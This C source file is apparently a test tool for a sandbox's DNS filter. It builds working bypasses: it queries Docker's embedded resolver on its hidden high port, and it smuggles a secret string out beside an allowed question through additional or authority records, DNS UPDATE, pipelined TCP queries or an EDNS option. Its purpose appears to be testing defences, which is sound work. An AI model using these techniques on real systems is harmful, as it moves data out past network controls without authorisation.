/* hostile_dns.c: classes 2 and 3 of issue 25: DNS that a check reading "a query to port 53, its question"
 * would let through.
 *
 * Class 2, a nameserver on another port. Docker's embedded DNS really listens on a high port of 127.0.0.11 (the
 * container's port 53 is translated to it); any program can read that port from /proc/net/udp and /proc/net/tcp
 * and ask there directly:
 *   hostile_dns port-udp NAME         a query for NAME on a UDP socket connected to that port
 *   hostile_dns port-tcp NAME         the same over TCP (the listening port of /proc/net/tcp)
 *   hostile_dns port-dig NAME [+tcp]  execs dig -p PORT @NAMESERVER NAME (dig's own resolver)
 *
 * Class 3, messages that carry more than their question. The question names an allowed name; the secret rides
 * along, to the nameserver of /etc/resolv.conf, port 53, on a connected socket:
 *   hostile_dns additional ALLOWED SECRET   an A record for SECRET in the additional section
 *   hostile_dns authority ALLOWED SECRET    an A record for SECRET in the authority section
 *   hostile_dns update ALLOWED SECRET       opcode UPDATE: zone ALLOWED, adding an A record for SECRET
 *   hostile_dns pipelined ALLOWED SECRET    TCP: two queries in one write, the second for SECRET
 *   hostile_dns edns ALLOWED SECRET         an EDNS OPT record whose option 65001 carries SECRET's bytes
 */
#include "hostile.h"

/* The port other than 53 on which NS listens, from /proc/net/udp or /proc/net/tcp (LISTEN), as an attacker
 * finds it; 0 if none. */
static unsigned other_port(const struct sockaddr_in *ns, bool tcp)
{
	FILE *f = fopen(tcp ? "/proc/net/tcp" : "/proc/net/udp", "r");
	char line[512];
	unsigned found = 0;
	while (f && fgets(line, sizeof(line), f)) {
		unsigned addr, port, st;
		if (sscanf(line, " %*u: %8X:%4X %*8X:%*4X %2X", &addr, &port, &st) != 3)
			continue;
		if (addr == ns->sin_addr.s_addr && port != 53 && (!tcp || st == 0x0A)) {
			found = port;
			break;
		}
	}
	if (f)
		fclose(f);
	printf("%s port of %s besides 53: %u\n", tcp ? "TCP" : "UDP", inet_ntoa(ns->sin_addr), found);
	fflush(stdout);
	return found;
}

/* A socket of TYPE connected to NS (libc's connect: the library's hook, where there is one). */
static int connected(const struct sockaddr_in *ns, int type)
{
	int fd = socket(AF_INET, type, 0);
	char what[64];
	snprintf(what, sizeof(what), "connect(%s:%u)", inet_ntoa(ns->sin_addr), ntohs(ns->sin_port));
	if (fd < 0 || step_libc(what, connect(fd, (const struct sockaddr *)ns, sizeof(*ns))) != 0)
		return -1;
	return fd;
}

/* One message on a connected UDP socket (send: the library's hook), and the reply. */
static int send_udp(const struct sockaddr_in *ns, const uint8_t *msg, size_t len)
{
	int fd = connected(ns, SOCK_DGRAM);
	if (fd < 0)
		return 1;
	if (step_libc("send", send(fd, msg, len, 0)) < 0)
		return 1;
	dns_wait_reply(fd, "reply");
	return 0;
}

/* Length-prefixed messages in ONE write on a connected TCP socket, and the replies. */
static int send_tcp(const struct sockaddr_in *ns, const uint8_t *msgs, size_t len, int replies)
{
	int fd = connected(ns, SOCK_STREAM);
	if (fd < 0)
		return 1;
	if (step_libc("write (one write)", write(fd, msgs, len)) < 0)
		return 1;
	for (int i = 0; i < replies; i++) {
		uint8_t hdr[2];
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, 2000) != 1 || recv(fd, hdr, 2, MSG_WAITALL) != 2) {
			printf("reply %d: none\n", i + 1);
			break;
		}
		uint8_t body[1500];
		size_t n = (size_t)(hdr[0] << 8 | hdr[1]);
		if (n > sizeof(body) || recv(fd, body, n, MSG_WAITALL) != (ssize_t)n)
			break;
		printf("reply %d: %zu bytes, rcode %d\n", i + 1, n, n >= 4 ? body[3] & 0xf : -1);
	}
	fflush(stdout);
	return 0;
}

/* MSG (LEN bytes) with its TCP length prefix, at OUT. */
static size_t prefixed(uint8_t *out, const uint8_t *msg, size_t len)
{
	dns_put16(out, (unsigned)len);
	memcpy(out + 2, msg, len);
	return len + 2;
}

static int usage(void)
{
	fprintf(stderr, "usage: hostile_dns port-udp|port-tcp NAME | port-dig NAME [+tcp] |\n"
			"       hostile_dns additional|authority|update|pipelined|edns ALLOWED SECRET\n");
	return 2;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return usage();
	hostile_start(argc, argv);
	const char *how = argv[1];
	struct sockaddr_in ns;
	hostile_nameserver(&ns);
	uint8_t m[1024], two[2048];
	size_t n;

	if (strcmp(how, "port-udp") == 0 || strcmp(how, "port-tcp") == 0) {
		bool tcp = how[5] == 't';
		unsigned port = other_port(&ns, tcp);
		if (port == 0)
			return 1;
		ns.sin_port = htons((uint16_t)port);
		n = dns_query(m, 0x4844, argv[2]);
		return tcp ? send_tcp(&ns, two, prefixed(two, m, n), 1) : send_udp(&ns, m, n);
	}
	if (strcmp(how, "port-dig") == 0) {
		bool tcp = argc > 3 && strcmp(argv[3], "+tcp") == 0;
		unsigned port = other_port(&ns, tcp);
		if (port == 0)
			return 1;
		char p[16], at[32];
		snprintf(p, sizeof(p), "%u", port);
		snprintf(at, sizeof(at), "@%s", inet_ntoa(ns.sin_addr));
		printf("exec dig +tries=1 +time=2 -p %s %s %s%s\n", p, at, argv[2], tcp ? " +tcp" : "");
		fflush(stdout);
		char *args[] = { "dig", "+tries=1", "+time=2", "-p", p, at, argv[2], tcp ? "+tcp" : NULL, NULL };
		execvp("dig", args);
		return (int)step_libc("execvp dig", -1);
	}
	if (argc < 4)
		return usage();
	const char *allowed = argv[2], *secret = argv[3];
	if (strcmp(how, "additional") == 0 || strcmp(how, "authority") == 0) {
		bool add = how[1] == 'd';
		n = dns_header(m, 0x4144, 0x0100, 1, 0, add ? 0 : 1, add ? 1 : 0);
		n += dns_question(m + n, allowed, 1);
		n += dns_rr_a(m + n, secret);
		return send_udp(&ns, m, n);
	}
	if (strcmp(how, "update") == 0) {
		n = dns_header(m, 0x5550, 5 << 11, 1, 0, 1, 0); /* zone, no prerequisites, one update */
		n += dns_question(m + n, allowed, 6); /* the zone: ALLOWED, type SOA */
		n += dns_rr_a(m + n, secret);
		return send_udp(&ns, m, n);
	}
	if (strcmp(how, "pipelined") == 0) {
		size_t len = 0;
		n = dns_query(m, 0x5031, allowed);
		len += prefixed(two + len, m, n);
		n = dns_query(m, 0x5032, secret);
		len += prefixed(two + len, m, n);
		return send_tcp(&ns, two, len, 2);
	}
	if (strcmp(how, "edns") == 0) {
		n = dns_header(m, 0x4544, 0x0100, 1, 0, 0, 1);
		n += dns_question(m + n, allowed, 1);
		size_t slen = strlen(secret);
		m[n++] = 0; /* the OPT record: the root as owner */
		n += dns_put16(m + n, 41);
		n += dns_put16(m + n, 1232); /* the UDP size */
		n += dns_put16(m + n, 0);
		n += dns_put16(m + n, 0);
		n += dns_put16(m + n, (unsigned)(4 + slen));
		n += dns_put16(m + n, 65001); /* an option for local or experimental use */
		n += dns_put16(m + n, (unsigned)slen);
		memcpy(m + n, secret, slen);
		n += slen;
		return send_udp(&ns, m, n);
	}
	return usage();
}
